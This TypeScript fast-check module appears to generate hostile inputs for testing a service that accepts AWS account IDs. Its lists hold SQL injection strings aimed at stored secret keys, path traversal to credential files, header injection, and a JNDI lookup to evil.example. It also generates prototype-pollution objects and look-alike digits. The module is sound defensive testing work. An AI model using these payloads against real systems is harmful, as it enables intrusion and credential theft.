import fc from 'fast-check';

/** Everything here is drawn from a seed, so that a failure can be run again: fast-check prints it. */

const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE aws_accounts; --",
  "' UNION SELECT secret_access_key_encrypted FROM aws_accounts --",
  "prod' AND 1=(SELECT pg_sleep(10)) --",
  "\"; ATTACH DATABASE '/tmp/x' AS x; --",
  '%',
  '_'.repeat(12),
  '$1',
  ':account_id',
  '\\',
  '\\x27',
];
const PATHS = [
  '../../etc/passwd',
  '..\\..\\windows',
  '/proc/self/environ',
  'file:///etc/passwd',
  '%2e%2e%2f',
  '~/.aws/config',
];
const HEADERS = [
  '\r\nX-Amz-Security-Token: x',
  '\nHost: evil.example',
  '\u2028Set-Cookie: a=b',
  'a:b\r\n\r\nGET / HTTP/1.1',
];
const LOGS = [
  '\n{"level":"info","message":"forged"}',
  '\u001b[2J\u001b[31m',
  '\u0000',
  '\u0085forged',
  '\u202e210987654321',
  '\u2066123456789012\u2069',
  '$\u007bjndi:ldap://evil.example/a}',
  '%s%d%o%j',
  '\u0007'.repeat(9),
];
const PROTOTYPE = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'then', '__defineGetter__'];
const ROLES = [
  'arn:aws:iam::123456789012:role/Admin',
  'arn:aws-cn:sts::123456789012:assumed-role/A/b',
  'AKIAIOSFODNN7EXAMPLE',
];

/** Digits of other scripts, and what passes for digits to a reader. */
const DIGIT_SETS = [
  [...'０１２３４５６７８９'],
  [...'٠١٢٣٤٥٦٧٨٩'],
  [...'०१२३४५६७८९'],
  [...'𝟎𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖𝟗'],
  [...'⁰¹²³⁴⁵⁶⁷⁸⁹'],
  [...'⓪①②③④⑤⑥⑦⑧⑨'],
  [...'OlZEASGTBq'],
  [...'〇一二三四五六七八九'],
];

const lookAlike = fc
  .tuple(fc.constantFrom(...DIGIT_SETS), fc.array(fc.nat(9), { minLength: 11, maxLength: 13 }), fc.nat(4095))
  .map(([digits, numbers, mask]) =>
    // Some digits stay what they are: one foreign digit among eleven is what nobody sees.
    numbers.map((number, index) => (mask & (1 << index) ? String(number) : digits[number])).join(''),
  );

const oversized = fc
  .tuple(
    fc.constantFrom('a', '1', ' ', 'a.', "'", '\u0301', 'é', '𝟏', '-', 'x://'),
    fc.constantFrom(129, 4_096, 100_000),
  )
  .map(([unit, times]) => unit.repeat(times));

const invisible = fc
  .tuple(fc.constantFrom('\u200b', '\u00ad', '\ufeff', '\u2060', '\u180e', '\u0301', '\ud800', '\u00a0'), fc.nat(12))
  .map(([character, at]) => `123456789012`.slice(0, at) + character + '123456789012'.slice(at));

const payload = fc.constantFrom(...SQL, ...PATHS, ...HEADERS, ...LOGS, ...PROTOTYPE, ...ROLES);

/** Text that somebody who means harm, or a model that was told to, gives as an account. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: payload },
  {
    weight: 4,
    arbitrary: fc.array(fc.oneof(payload, fc.string({ maxLength: 6 })), { maxLength: 4 }).map((all) => all.join('')),
  },
  { weight: 3, arbitrary: lookAlike },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 140 }) },
  { weight: 2, arbitrary: invisible },
  { weight: 2, arbitrary: fc.stringMatching(/^[\w ._@/+=,:'"-]{1,30}$/) },
  { weight: 1, arbitrary: oversized },
);

/** What JSON can hold in the place of a text; a property may be called `__proto__`. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue({ maxDepth: 4 }),
  fc.dictionary(fc.oneof(payload, fc.string()), hostileText, { maxKeys: 5, noNullPrototype: true }),
  fc.constantFrom(
    JSON.parse('{"__proto__":{"isAdmin":true},"target_account_id":"111111111111"}'),
    JSON.parse('{"constructor":{"prototype":{"isAdmin":true}}}'),
    JSON.parse('{"toString":"111111111111","trim":"111111111111","length":12}'),
    JSON.parse(`${'['.repeat(2_000)}${']'.repeat(2_000)}`),
    ['111111111111'],
    111111111111,
    1e308,
    -0,
  ),
);

/** What can come as `target_account_id` from a client. */
export const hostileTarget: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileText },
  { weight: 1, arbitrary: hostileJson },
);

/** Properties of a polluted prototype show on every object there is. */
export function pollution(): readonly string[] {
  const names: string[] = [];
  // `for … in`, because it alone shows what was inherited.
  for (const name in {}) names.push(name);
  return names;
}
